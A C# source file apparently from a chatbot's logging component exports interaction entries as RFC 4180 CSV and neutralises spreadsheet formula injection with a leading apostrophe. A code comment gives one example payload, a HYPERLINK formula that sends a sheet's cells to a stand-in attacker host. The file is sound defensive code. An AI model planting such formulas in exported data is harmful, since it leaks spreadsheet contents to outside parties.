using System.Globalization;
using System.Text;

namespace KforBot.Log.Output;

/// <summary>
/// The CSV export (RFC 4180): the fields of <see cref="EntryJson"/> in the same order and names, a header line,
/// every field quoted when it holds a comma, a quote or a line break; article ids separated by spaces.
/// </summary>
/// <remarks>
/// Questions and notes are anyone's text, and a spreadsheet runs a cell that starts with = + - @ (or a tab or
/// carriage return before one) as a formula: <c>=HYPERLINK("http://evil.example/?"&amp;A1)</c> would send the
/// sheet's contents away. Such a field is written with a leading apostrophe, as OWASP advises, so it opens as text.
/// </remarks>
internal static class EntryCsv
{
    public const string Header = "id,at,channel,user,question,refused,reason,articleIds,indexVersion,latencyMs,feedback,status,note,chatType,nowAnswerable";

    public static string Line(InteractionEntry entry)
    {
        var e = EntryJson.From(entry);
        string?[] fields =
        [
            e.Id, e.At, e.Channel, e.User, e.Question, Bool(e.Refused), e.Reason, string.Join(' ', e.ArticleIds), e.IndexVersion,
            e.LatencyMs.ToString("R", CultureInfo.InvariantCulture), e.Feedback, e.Status, e.Note, e.ChatType, Bool(e.NowAnswerable),
        ];
        return string.Join(',', fields.Select(Quote));
    }

    private static string Bool(bool value) => value ? "true" : "false";

    private static string Quote(string? field)
    {
        if (string.IsNullOrEmpty(field))
        {
            return string.Empty;
        }

        if (field[0] is '=' or '+' or '-' or '@' or '\t' or '\r')
        {
            field = "'" + field;
        }

        if (field.AsSpan().IndexOfAny(",\"\r\n") < 0)
        {
            return field;
        }

        return new StringBuilder(field.Length + 2).Append('"').Append(field.Replace("\"", "\"\"", StringComparison.Ordinal)).Append('"').ToString();
    }
}
